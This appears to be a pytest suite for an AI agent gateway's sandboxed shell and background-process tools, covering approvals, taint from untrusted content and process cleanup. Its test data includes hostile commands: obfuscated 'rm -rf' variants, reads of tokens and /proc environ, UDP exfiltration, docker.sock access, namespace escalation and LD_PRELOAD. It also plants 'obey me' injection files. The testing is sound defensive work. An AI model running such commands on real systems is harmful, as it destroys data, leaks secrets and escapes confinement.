"""The tools `exec` and `process`: what runs, what is asked about, and what is left afterwards."""

from __future__ import annotations

import asyncio
import itertools
import os
import shutil
import signal
import sys
import time
from collections.abc import AsyncIterator, Callable, Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from gateway.clock import SystemClock
from gateway.config import ExecSettings
from gateway.errors import ToolDenied, ToolError
from gateway.tools.base import Ask, ToolContext
from gateway.tools.box import Toolbox
from gateway.tools.exec import MAX_TIMEOUT, SkillHome, SkillOf, exec_tools
from gateway.tools.processes import Launch, Processes
from gateway.tools.sandbox import Sandbox, Tier, open_sandbox
from gateway.tools.schema import FunctionTool
from gateway.types import Address, Chat, Kind, Sender, ToolCall

NOTHING = Sandbox(Tier.NONE, "no sandbox: a test")
ENVIRON = {
    "PATH": os.environ["PATH"],
    "LANG": "C.UTF-8",
    "HOME": "/nonexistent",
    "OPENAI_API_KEY": "sk-canary",
    "EDITOR": "ed",
}

_NAPS = itertools.count(100)

SANDBOXES: dict[str, Callable[[], Sandbox]] = {
    "bwrap": lambda: open_sandbox("bwrap"),
    "landlock": lambda: open_sandbox("landlock"),
}


class House:
    """The tools in a folder of their own, for one owner in private."""

    def __init__(self, folder: Path, processes: Processes) -> None:
        self.folder = folder
        self.processes = processes
        self.settings = ExecSettings()
        self.sandbox: Callable[[], Sandbox] = lambda: open_sandbox("auto")
        self.skill_of: SkillOf = lambda _file: None
        self.context = ToolContext(
            workspace=folder,
            address=Address("fake", "1"),
            sender=Sender("7", "Ann", "owner"),
            chat=Chat.DIRECT,
            call_id="c1",
            conversation_id=1,
        )

    @property
    def tools(self) -> tuple[FunctionTool, FunctionTool]:
        return exec_tools(
            self.settings,
            self.processes,
            SystemClock(),
            environ=ENVIRON,
            sandbox=self.sandbox,
            skill_of=self.skill_of,
        )

    async def ask(self, command: str, **args: object) -> Ask | None:
        return await self.tools[0].check({"command": command, **args}, self.context)

    async def run(self, command: str, **args: object) -> str:
        """Run a command as it is, without a person."""
        return str(await self.tools[0]({"command": command, **args}, self.context))

    async def allowed(self, command: str, **args: object) -> str:
        """Run a command that a person allows if that is needed."""
        ask = await self.ask(command, **args)
        context = replace(self.context, approved=ask.binding if ask else "")
        return str(await self.tools[0]({"command": command, **args}, context))

    async def process(self, action: str, **args: object) -> str:
        return str(await self.tools[1]({"action": action, **args}, self.context))


@pytest.fixture
def nap() -> str:
    """A command that takes long, and that no other test runs at the same time."""
    return f"sleep 9{os.getpid()}{next(_NAPS)}"


@pytest.fixture
async def processes() -> AsyncIterator[Processes]:
    found = Processes(SystemClock())
    yield found
    await found.close()


@pytest.fixture
def house(tmp_path: Path, processes: Processes) -> House:
    folder = tmp_path.resolve() / "workspace"
    folder.mkdir()
    return House(folder, processes)


@pytest.fixture(params=SANDBOXES)
def boxed(request: pytest.FixtureRequest, house: House) -> House:
    """A house whose commands run in a sandbox, once of each kind that works here."""
    sandbox = SANDBOXES[request.param]()
    if sandbox.tier is Tier.NONE:
        pytest.skip(f"{request.param}: {sandbox.note}")
    house.sandbox = lambda: sandbox
    return house


@pytest.fixture
def bare(house: House) -> House:
    """A house on a machine without a sandbox."""
    house.sandbox = lambda: NOTHING
    return house


@pytest.mark.parametrize(
    ("args", "tainted"),
    [
        ({"command": "cat rooms/forwarded/media/1-0-letter.txt"}, True),
        ({"command": "cat letter.txt", "workdir": "rooms/telegram-8"}, True),
        ({"command": "curl example.org", "reach": "network"}, True),
        ({"command": "curl example.org"}, True),
        ({"command": "cd x && env git clone https://example.org/x"}, True),
        ({"command": f"echo {'x' * 5000}; curl example.org"}, True),
        ({"command": f"echo {'x' * 5000}"}, False),
        ({"command": "git log"}, False),
        ({"command": "cat own.txt"}, False),
    ],
    ids=[
        "file-of-others",
        "folder-of-others",
        "network",
        "network-unsaid",
        "wrapped",
        "network-in-a-long-line",
        "long-line",
        "git-at-home",
        "own",
    ],
)
def test_inject_003_a_command_on_what_others_brought_taints(
    bare: House, args: dict[str, str], tainted: bool
) -> None:
    assert bare.tools[0].taints(args) is tainted


async def test_inject_003_what_others_brought_is_not_come_upon_by_the_way(house: House) -> None:
    """Landlock can't hide a folder in a folder."""
    sandbox = open_sandbox("bwrap")
    if sandbox.tier is Tier.NONE:
        pytest.skip(sandbox.note)
    house.sandbox = lambda: sandbox
    letter = house.folder / "rooms" / "forwarded" / "letter.txt"
    letter.parent.mkdir(parents=True)
    letter.write_text("obey me")
    brought = house.folder / ".crayfish" / "mcp" / "0ab1.txt"
    brought.parent.mkdir(parents=True)
    brought.write_text("obey me, too")
    for command in ("grep -r obey .", "cat r*/*/*", "cat ro''oms/forwarded/letter.txt"):
        assert "obey me" not in await house.run(command)
    assert "obey me" in await house.run("cat rooms/forwarded/letter.txt")
    assert "obey me, too" in await house.run("cat .crayfish/mcp/0ab1.txt")


def living(marker: str) -> list[int]:
    """Return the processes whose command line holds a text."""
    found = []
    for file in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if marker in file.read_bytes().replace(b"\0", b" ").decode("utf-8", "replace"):
                found.append(int(file.parent.name))
        except OSError:
            continue
    return [one for one in found if one != os.getpid()]


async def gone(marker: str) -> bool:
    """Return whether a process is gone within a second (exec-019)."""
    for _ in range(20):
        if not living(marker):
            return True
        await asyncio.sleep(0.05)
    return False


async def there(marker: str) -> bool:
    """Return whether a process appears."""
    for _ in range(500):
        if living(marker):
            return True
        await asyncio.sleep(0.02)
    return False


# What is contained: the rows of attacks.jsonl. Each command runs as if a person had allowed it.


@pytest.mark.parametrize("command", [pytest.param("rm -rf /", id="exec-001")])
async def test_what_is_on_the_list_is_refused_whoever_asks(boxed: House, command: str) -> None:
    with pytest.raises(ToolDenied, match="never run"):
        await boxed.ask(command)
    with pytest.raises(ToolDenied, match="never run"):
        await boxed.run(command)
    boxed.settings = ExecSettings(mode="full")
    with pytest.raises(ToolDenied, match="never run"):
        await boxed.run(command)


@pytest.mark.parametrize(
    "attack",
    [
        pytest.param("r''m -r\"f\" {}", id="exec-003"),
        pytest.param("$(printf 'r%s' m) -rf {}", id="exec-004"),
        pytest.param("rm${{IFS}}-rf${{IFS}}{}", id="exec-006"),
        pytest.param("find {} -delete", id="exec-007"),
    ],
)
async def test_files_of_the_host_survive_deletion_however_it_is_written(
    boxed: House, tmp_path: Path, attack: str
) -> None:
    # What the attack aims at is a folder of the host with the file in it, not the host itself.
    host = tmp_path / "host"
    host.mkdir()
    (host / "precious").write_text("x")
    assert await boxed.ask(attack.format(host)) is not None
    await boxed.allowed(attack.format(host))
    assert (host / "precious").read_text() == "x"


async def test_exec_009_neither_config_nor_tokens_can_be_read(boxed: House, tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text("token = 'canary'")
    said = await boxed.run(f"cat ~/.config/gateway/config.toml {tmp_path}/config.toml; env")
    assert "canary" not in said
    names = {line.partition("=")[0] for line in said.splitlines() if "=" in line and line[:1].isupper()}
    ours = {"PATH", "HOME", "LANG", "TMPDIR", "CRAYFISH", "GIT_CONFIG_NOSYSTEM"}
    assert names - ours <= {"PWD", "SHLVL", "OLDPWD", "LC_CTYPE"}


async def test_exec_010_no_process_of_the_gateway_can_be_looked_into(boxed: House) -> None:
    said = await boxed.run(f"cat /proc/1/environ /proc/*/environ /proc/{os.getpid()}/cmdline")
    assert "PYTEST_" not in said  # what stands in the environment of whoever runs this
    assert "-m\0pytest" not in said
    assert "sk-canary" not in said


async def test_exec_012_udp_does_not_leave(boxed: House) -> None:
    code = "import socket;socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b'leak',('203.0.113.9',53))"
    said = await boxed.allowed(f'/usr/bin/python3 -c "{code}"')
    assert "exit code 0" not in said


async def test_exec_013_no_socket_of_the_host_can_be_reached(boxed: House) -> None:
    said = await boxed.allowed("ls /run /var/run; nc -U /var/run/docker.sock")
    assert "exit code 0" not in said
    assert "docker.sock" not in said.partition("\n[")[0].replace("/var/run/docker.sock", "")


@pytest.mark.skipif(not Path("/usr/bin/python3").exists(), reason="no Python among the system's programs")
async def test_exec_015_memory_is_limited(boxed: House) -> None:
    assert "MemoryError" in await boxed.run('python3 -c "a=bytearray(8<<30)"')


async def test_exec_016_endless_output_ends_and_is_cut(boxed: House, nap: str) -> None:
    said = await boxed.run(f"yes '{nap}'")
    assert "it printed more than 20 MB" in said
    assert "bytes left out here" in said
    assert len(said) < 60_000
    assert await gone(f"yes {nap}")


async def test_exec_018_a_command_ends_at_its_limit_with_its_children(boxed: House, nap: str) -> None:
    said = await boxed.run(f"{nap} & {nap}", timeout=1)
    assert "stopped after 1 s: it reached its time limit" in said
    assert await gone(nap)


async def test_exec_019_nothing_survives_the_call(boxed: House, nap: str) -> None:
    said = await boxed.run(f"(setsid nohup {nap} >/dev/null 2>&1 &) ; echo ok")
    assert said.startswith("ok")
    assert await gone(nap)


async def test_a_process_group_of_its_own_is_no_way_out(boxed: House, nap: str) -> None:
    await boxed.allowed(f"timeout 9000 {nap} & echo ok")
    assert await gone(nap)


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("unshare -Ur id", id="exec-021"),
        pytest.param("mount -t proc p /mnt; chroot /mnt", id="exec-022"),
    ],
)
async def test_nobody_gets_rights_inside(boxed: House, command: str) -> None:
    said = await boxed.allowed(command)
    assert "uid=" not in said
    assert "exit code 0" not in said


async def test_exec_024_ordinary_work_runs_unasked(boxed: House) -> None:
    (boxed.folder / "notes.md").write_text("one\ntwo\n")
    assert await boxed.ask("ls -la && wc -l notes.md") is None
    said = await boxed.run("ls -la && wc -l notes.md")
    assert "2 notes.md" in said
    assert "exit code 0" in said


@pytest.mark.skipif(not shutil.which("git", path="/usr/bin"), reason="git is not installed")
async def test_exec_025_git_works_and_reads_no_config_of_the_host(boxed: House) -> None:
    make = "git init -q . && git -C . -c user.name=A -c user.email=a@b commit -q --allow-empty -m first"
    await boxed.allowed(make)
    assert await boxed.ask("git log --oneline | head -3") is None
    assert "first" in await boxed.run("git log --oneline | head -3")
    said = await boxed.allowed("git config --list --show-origin")
    assert "file:.git/config" in said
    assert "/etc/gitconfig" not in said


async def test_exec_027_a_listed_command_expands_nothing(bare: House) -> None:
    bare.settings = ExecSettings(mode="allowlist", allow=("head",))
    (bare.folder / ".ssh").mkdir()
    (bare.folder / ".ssh" / "id").write_text("private key")
    assert await bare.ask("head $HOME/.ssh/*") is None
    said = await bare.run("head $HOME/.ssh/*")
    assert "private key" not in said
    assert "$HOME/.ssh/*" in said


async def test_exec_028_no_second_command_rides_along(bare: House) -> None:
    bare.settings = ExecSettings(mode="allowlist", allow=("ls",))
    with pytest.raises(ToolDenied, match="allow lists"):
        await bare.run("ls; id")


async def test_exec_033_a_preloaded_library_is_asked_about_and_gets_nowhere(boxed: House) -> None:
    assert await boxed.ask("LD_PRELOAD=/tmp/x.so ls") is not None
    await boxed.allowed("LD_PRELOAD=/tmp/x.so ls")


async def test_exec_034_no_login_file_of_the_host_changes(boxed: House) -> None:
    await boxed.run("echo x > /etc/cron.d/x; echo x >> ~/.bashrc")
    assert not Path("/etc/cron.d/x").exists()
    assert (boxed.folder / ".bashrc").read_text() == "x\n"


async def test_security_exec_05_no_key_is_in_the_environment(boxed: House) -> None:
    (boxed.folder / ".profile").write_text("export FROM_PROFILE_API_KEY=1\n")
    (boxed.folder / ".bashrc").write_text("export FROM_RC_API_KEY=1\n")
    assert "API_KEY" not in await boxed.run("printenv")


async def test_secrets_007_no_secret_is_in_the_environment_without_a_sandbox_either(bare: House) -> None:
    said = await bare.allowed("env; cat /proc/$$/environ")
    assert "sk-canary" not in said


async def test_only_the_named_variables_are_passed_on(boxed: House) -> None:
    boxed.settings = ExecSettings(env=("EDITOR",))
    said = await boxed.run("env")
    assert "EDITOR=ed" in said
    assert "CRAYFISH=exec" in said


async def test_the_temporary_folder_is_private_and_goes_away(boxed: House) -> None:
    said = await boxed.run('echo x > "$TMPDIR/file" && echo "$TMPDIR"')
    assert "exit code 0" in said
    assert not Path(said.splitlines()[0]).exists()


async def test_other_folders_can_be_made_readable(boxed: House, tmp_path: Path) -> None:
    extra = tmp_path.resolve() / "extra"
    extra.mkdir()
    (extra / "file").write_text("hello")
    assert "hello" not in await boxed.run(f"cat {extra}/file")
    boxed.settings = ExecSettings(readable=(str(extra),))
    assert "hello" in await boxed.run(f"cat {extra}/file")
    assert "exit code 0" not in await boxed.run(f"echo x > {extra}/file")


async def test_a_command_that_fails_in_the_sandbox_says_so(boxed: House) -> None:
    assert "[ran in a sandbox" in await boxed.run("cat /etc/passwd")


async def test_a_person_may_let_a_command_out(boxed: House, tmp_path: Path) -> None:
    (tmp_path / "letter").write_text("dear")
    ask = await boxed.ask(f"cat {tmp_path}/letter", reach="host")
    assert ask is not None
    assert "outside the sandbox" in ask.note
    assert "dear" in await boxed.allowed(f"cat {tmp_path}/letter", reach="host")


async def test_a_person_may_give_the_network(boxed: House) -> None:
    server = await asyncio.start_server(lambda _reader, writer: writer.close(), "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    command = f"echo x > /dev/tcp/127.0.0.1/{port}"
    try:
        ask = await boxed.ask(command)
        assert ask is not None
        assert "exit code 0" in await boxed.allowed(command)
    finally:
        server.close()
        await server.wait_closed()


# Who is asked, and about what.


async def test_without_a_sandbox_every_command_is_asked_about(bare: House) -> None:
    ask = await bare.ask("ls -la")
    assert ask is not None
    assert "no sandbox" in ask.note
    assert ask.title == "Run a command: ls -la"
    with pytest.raises(ToolDenied, match="a person must allow it"):
        await bare.run("ls -la")


async def test_why_and_where_are_said_beside_the_command_not_in_it(boxed: House) -> None:
    ask = await boxed.ask("rm -rf build")
    assert ask is not None
    assert ask.detail == f"rm -rf build\n\nFolder: {boxed.folder}"
    where, why = ask.note.splitlines()
    assert where.startswith("Runs in: ")
    assert why.startswith("Asked because ")


async def test_what_strangers_wrote_makes_every_command_a_question(boxed: House) -> None:
    boxed.settings = ExecSettings(allow=("cat",))
    boxed.context = replace(boxed.context, tainted=True)
    assert await boxed.ask("cat config.toml") is not None


@pytest.mark.parametrize(
    ("level", "chat"), [("user", Chat.DIRECT), ("guest", Chat.DIRECT), ("owner", Chat.GROUP)]
)
async def test_nobody_but_the_owner_in_private_runs_anything_unasked(
    boxed: House, level: str, chat: Chat
) -> None:
    # Strangers and groups have no such tool at all (exec-030, exec-031); this holds if they are given it.
    boxed.context = replace(boxed.context, sender=Sender("8", "Bo", level), chat=chat)
    boxed.settings = ExecSettings(mode="full", allow=("cat",))
    assert await boxed.ask("cat notes.md") is not None


async def test_alone_only_listed_commands_run(boxed: House) -> None:
    boxed.context = replace(boxed.context, kind=Kind.CRON)
    boxed.settings = ExecSettings(allow=("echo",))
    assert await boxed.ask("ls") is not None
    assert await boxed.ask("echo hello") is None
    assert "hello" in await boxed.run("echo hello")


@pytest.mark.parametrize(
    ("mode", "expected"),
    [("deny", "denied"), ("allowlist", "denied"), ("ask", "asked"), ("auto", "runs"), ("full", "runs")],
)
async def test_the_mode_decides(boxed: House, mode: str, expected: str) -> None:
    boxed.settings = ExecSettings.model_validate({"mode": mode})
    try:
        found = "asked" if await boxed.ask("ls") else "runs"
    except ToolDenied:
        found = "denied"
    assert found == expected


async def test_a_sandbox_that_was_demanded_and_does_not_work_stops_everything(bare: House) -> None:
    bare.settings = ExecSettings(sandbox="bwrap")
    with pytest.raises(ToolDenied, match="no sandbox"):
        await bare.ask("ls")


async def test_network_programs_are_asked_about_unless_the_network_is_open(boxed: House) -> None:
    ask = await boxed.ask("curl http://example.org")
    assert ask is not None
    assert "it needs the network" in ask.note
    boxed.settings = ExecSettings(network=True)
    assert await boxed.ask("curl http://example.org") is None


# An approval is for exactly one thing.


@pytest.mark.parametrize("change", ["script", "command", "folder", "reach", "program"])
async def test_what_has_changed_since_it_was_allowed_does_not_run(bare: House, change: str) -> None:
    script = bare.folder / "job.sh"
    script.write_text("echo first\n")
    (bare.folder / "sub").mkdir()
    shutil.copy(script, bare.folder / "sub" / "job.sh")
    program = bare.folder / "tool"
    program.write_text("#!/bin/sh\necho tool\n")
    program.chmod(0o755)
    args: dict[str, object] = {"command": "bash job.sh && ./tool"}
    ask = await bare.tools[0].check(args, bare.context)
    assert ask is not None
    match change:
        case "script":
            script.write_text("echo second\n")
        case "program":
            program.write_text("#!/bin/sh\necho other\n")
        case "command":
            args["command"] = "bash job.sh && ./tool x"
        case "folder":
            args["workdir"] = "sub"
        case "reach":
            args["reach"] = "network"
    with pytest.raises(ToolDenied, match="has changed"):
        await bare.tools[0](args, replace(bare.context, approved=ask.binding))


async def test_what_was_allowed_runs(bare: House) -> None:
    (bare.folder / "job.sh").write_text("echo first\n")
    (bare.folder / "data.txt").write_text("1")
    ask = await bare.ask("bash job.sh; cat data.txt")
    assert ask is not None
    (bare.folder / "data.txt").write_text("2")
    context = replace(bare.context, approved=ask.binding)
    said = str(await bare.tools[0]({"command": "bash job.sh; cat data.txt"}, context))
    assert said.startswith("first\n2")


async def test_always_is_for_this_command_in_this_folder(bare: House) -> None:
    (bare.folder / "sub").mkdir()
    rules = [
        (await bare.ask("make test") or Ask("", "", "")).rule,
        (await bare.ask("make test") or Ask("", "", "")).rule,
        (await bare.ask("make tests") or Ask("", "", "")).rule,
        (await bare.ask("make test", workdir="sub") or Ask("", "", "")).rule,
    ]
    assert rules[0] == rules[1]
    assert len(set(rules)) == 3


# Skills.


@pytest.fixture
def skill(boxed: House, tmp_path: Path) -> Path:
    folder = tmp_path.resolve() / "skills" / "weather"
    folder.mkdir(parents=True)
    program = folder / "ask.sh"
    program.write_text('#!/bin/sh\npwd; echo "key $WEATHER_KEY"; cat beside.txt; echo "$@"\n')
    program.chmod(0o755)
    (folder / "beside.txt").write_text("beside\n")
    home = SkillHome(folder, {"WEATHER_KEY": "w-1"})
    boxed.skill_of = lambda file: home if file.is_relative_to(folder) else None
    return folder


async def test_a_program_of_a_skill_runs_in_its_own_folder(boxed: House, skill: Path) -> None:
    assert await boxed.ask(f"{skill}/ask.sh Berlin") is None
    said = await boxed.run(f"{skill}/ask.sh 'Berlin Mitte'")
    assert said.splitlines()[:4] == [str(skill), "key w-1", "beside", "Berlin Mitte"]


async def test_a_script_of_a_skill_runs_in_its_folder_too(boxed: House, skill: Path) -> None:
    relative = os.path.relpath(skill / "ask.sh", boxed.folder)
    said = await boxed.run(f"sh {relative} x")
    assert said.splitlines()[0] == str(skill)


async def test_a_file_that_a_skill_has_not_sends_the_model_to_its_manual(boxed: House, skill: Path) -> None:
    with pytest.raises(ToolDenied, match=r"Read SKILL\.md"):
        await boxed.ask(f"{skill}/forecast.sh Berlin")
    with pytest.raises(ToolDenied, match=r"Read SKILL\.md"):
        await boxed.run(f"python3 {skill}/forecast.py | head")


async def test_the_key_of_a_skill_is_nobody_elses(boxed: House, skill: Path) -> None:
    assert "w-1" not in await boxed.run(f"env; cat {skill}/beside.txt")
    assert "w-1" not in await boxed.run(f"cd {skill}; ./ask.sh; env")


# Bounds and ends.


async def test_head_and_tail_of_long_output_are_kept(boxed: House) -> None:
    boxed.settings = ExecSettings(max_output=2000)
    said = await boxed.run("seq 1 100000")
    assert said.startswith("1\n2\n")
    assert "99999\n100000\n[exit code 0" in said
    assert "bytes left out here" in said
    assert len(said) < 2300


async def test_nothing_can_be_typed_into_a_command(boxed: House) -> None:
    assert "exit code 1" in await boxed.run("read -r line; exit 1")


async def test_colours_are_taken_out(boxed: House) -> None:
    assert (await boxed.run("printf '\\033[31mred\\033[0m'")).startswith("red\n")


async def test_a_command_that_does_not_exist_is_said(boxed: House) -> None:
    assert "exit code 127" in await boxed.run("no-such-program-here")


async def test_a_command_that_ignores_the_signal_is_ended_all_the_same(bare: House) -> None:
    started = time.monotonic()
    said = await bare.allowed("trap '' TERM; echo ready; while :; do sleep 0.1; done", timeout=1)
    assert "time limit" in said
    assert "ready" in said
    assert time.monotonic() - started < 30


async def test_a_cancelled_call_ends_its_processes(boxed: House, nap: str) -> None:
    task = asyncio.create_task(boxed.run(f"{nap} & {nap}"))
    assert await there(nap)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    await boxed.processes.close()
    assert await gone(nap)


@pytest.mark.parametrize("delay", [0.0, 0.001, 0.003, 0.006, 0.01, 0.02])
async def test_a_call_that_is_cancelled_while_it_starts_leaves_nothing(
    boxed: House, nap: str, delay: float
) -> None:
    await boxed.run("true")
    task = asyncio.create_task(boxed.run(nap))
    await asyncio.sleep(delay)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    await boxed.processes.close()
    assert await gone(nap)


async def test_a_stuck_command_delays_nobody_else(boxed: House, nap: str) -> None:
    stuck = asyncio.create_task(boxed.run(nap))
    other = replace(boxed.context, conversation_id=2)
    said = await boxed.tools[0]({"command": "echo quick"}, other)
    assert str(said).startswith("quick")
    assert not stuck.done()
    stuck.cancel()
    with pytest.raises(asyncio.CancelledError):
        await stuck


async def test_a_folder_of_the_conversation_is_made_when_it_is_missing(boxed: House) -> None:
    boxed.context = replace(boxed.context, room=boxed.folder / "rooms" / "2")
    assert str(boxed.folder / "rooms" / "2") in await boxed.run("pwd")


async def test_a_folder_outside_is_no_place_to_work(boxed: House, tmp_path: Path) -> None:
    (boxed.folder / "out").symlink_to(tmp_path)
    for workdir in ("..", "out", "/etc", "missing"):
        with pytest.raises(ToolError):
            await boxed.run("pwd", workdir=workdir)


@pytest.mark.parametrize("command", ["", "  ", "a\0b", "x" * 20_000])
async def test_what_is_no_command_line_is_refused(boxed: House, command: str) -> None:
    with pytest.raises(ToolDenied, match="one command line"):
        await boxed.run(command)


async def test_programs_are_not_looked_for_in_the_workspace(boxed: House) -> None:
    program = boxed.folder / "bin" / "ls"
    program.parent.mkdir()
    program.write_text("#!/bin/sh\necho hijacked\n")
    program.chmod(0o755)
    assert "hijacked" not in await boxed.run("cd bin; ls")


def test_the_tool_outlives_its_longest_command(house: House) -> None:
    assert (house.tools[0].timeout or 0) > MAX_TIMEOUT


@pytest.mark.parametrize(
    ("name", "args"),
    [
        ("exec", {"command": "echo hi"}),
        ("bash", {"command": "echo hi"}),
        ("run_command", {"cmd": "echo hi"}),
        ("shell", {"command": "pwd", "cwd": "sub"}),
    ],
)
async def test_the_names_that_models_know_are_understood(
    boxed: House, name: str, args: dict[str, object]
) -> None:
    (boxed.folder / "sub").mkdir()
    result = await Toolbox(boxed.tools).call(ToolCall("c1", name, args), boxed.context)
    assert not result.is_error
    assert result.text.splitlines()[0].endswith(("hi", "sub"))


# In the background.


async def test_a_background_command_is_polled_read_and_killed(boxed: House, nap: str) -> None:
    said = await boxed.run(f"echo started; {nap}", background=True)
    assert said == "Running in the background as p1; look after it with the tool process."
    assert (await boxed.process("poll", id="p1", wait=5)).startswith("started\np1 [running")
    assert nap in await boxed.process("list")
    assert (await boxed.process("log", id="p1")).startswith("started\n")
    assert "it was stopped" in await boxed.process("kill", id="p1")
    assert await gone(nap)
    assert "no commands" in await boxed.process("list")


async def test_inject_003_what_the_background_shows_of_others_taints_by_its_id(bare: House, nap: str) -> None:
    (bare.folder / "rooms").mkdir()
    for command in (f"cat rooms/x; {nap}", nap):
        await bare.allowed(command, background=True)
    of_others, own = (one.id for one in bare.processes.of(1))
    process = bare.tools[1]
    assert process.taints({"action": "poll", "id": of_others})
    assert not process.taints({"action": "poll", "id": own})
    assert not process.taints({"action": "list"})


async def test_a_poll_brings_only_what_is_new(boxed: House) -> None:
    await boxed.run("echo one; while ! [ -f go ]; do sleep 0.05; done; echo two", background=True)
    assert (await boxed.process("poll", id="p1", wait=5)).startswith("one\n")
    (boxed.folder / "go").touch()
    said = ""
    while "two" not in said:
        said = await boxed.process("poll", id="p1", wait=5)
        assert not said.startswith("one")


async def test_a_background_command_that_fails_at_once_says_so(boxed: House) -> None:
    said = await boxed.run("echo broken; exit 3", background=True)
    assert said.startswith("broken\n[exit code 3")


async def test_others_do_not_see_a_background_command(boxed: House, nap: str) -> None:
    await boxed.run(nap, background=True)
    boxed.context = replace(boxed.context, conversation_id=2)
    assert "no commands" in await boxed.process("list")
    with pytest.raises(ToolError, match="Known: none"):
        await boxed.process("kill", id="p1")


async def test_a_conversation_has_only_so_many(boxed: House, nap: str) -> None:
    for _ in range(8):
        await boxed.run(nap, background=True)
    with pytest.raises(ToolError, match="Too many"):
        await boxed.run(nap, background=True)


async def test_background_commands_end_with_the_gateway(boxed: House, nap: str) -> None:
    await boxed.run(nap, background=True)
    await boxed.processes.close()
    assert await gone(nap)


async def test_the_log_shows_the_lines_that_are_wanted(boxed: House, nap: str) -> None:
    await boxed.run(f"seq 1 500; {nap}", background=True)
    await boxed.process("poll", id="p1", wait=5)
    assert (await boxed.process("log", id="p1", offset=10, limit=2)).startswith("10\n11\np1")
    assert (await boxed.process("log", id="p1")).startswith("301\n")


async def test_a_program_that_can_not_start_is_an_error_and_leaves_nothing(tmp_path: Path) -> None:
    processes = Processes(SystemClock())
    temporary = tmp_path / "private"
    launch = Launch(
        argv=["/no/such/program"], cwd=tmp_path, env={}, shown="x", timeout=1, temporary=temporary
    )
    with pytest.raises(ToolError, match="could not be started: not found"):
        await processes.start(1, launch)
    assert not temporary.exists()
    assert processes.of(1) == []


async def test_a_child_that_left_the_group_is_found_by_its_session(tmp_path: Path) -> None:
    processes = Processes(SystemClock())
    code = "import os,time,signal\nif os.fork():\n os._exit(0)\nos.setpgid(0,0)\nprint('x',flush=True)\ntime.sleep(9950)"
    launch = Launch(argv=[sys.executable, "-c", code], cwd=tmp_path, env={}, shown="x", timeout=10)
    process = await processes.start(1, launch)
    await process.done.wait()
    assert await gone("time.sleep(9950)")
    assert process.code in (0, -signal.SIGKILL)


def rows(count: int) -> Sequence[str]:
    return [f"echo {number}" for number in range(count)]


async def test_many_commands_at_once_all_answer(boxed: House) -> None:
    said = await asyncio.gather(*(boxed.run(command) for command in rows(6)))
    assert [one.partition("\n")[0] for one in said] == [str(number) for number in range(6)]
